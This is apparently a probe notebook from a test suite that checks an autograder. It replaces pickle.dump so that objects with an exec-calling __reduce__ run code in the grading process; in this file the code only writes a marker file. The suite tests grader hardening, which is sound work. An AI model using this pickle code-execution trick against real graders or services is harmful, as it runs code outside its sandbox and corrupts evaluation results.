# class: grader internals
# honest: poor
# probe: processes
# expect: score <= honest; status graded
# in kernel: runs code in otter's own process, outside of the kernel (run)

# %% [markdown]
# Put a pickle in the way that runs code when it is read. Stock otter's kernel hands its results to the grading process
# as a pickle, so a notebook that replaces `pickle.dump` runs whatever it likes out there.

# %%
import pickle


class Runs:
    def __reduce__(self):
        return (exec, (f"open({bait['file']!r}, 'w').write('run in the grader')",))


for module in (pickle, pickle.__dict__.get("_compat_pickle", pickle)):
    module.dump = lambda value, file, *args, **kwargs: file.write(pickle.dumps(Runs()))


def backward(params, x, y_hat, hidden, t, reg):
    return {k: pickle.dumps(Runs()) for k in params}


def accuracy(y_hat, t):
    return Runs()
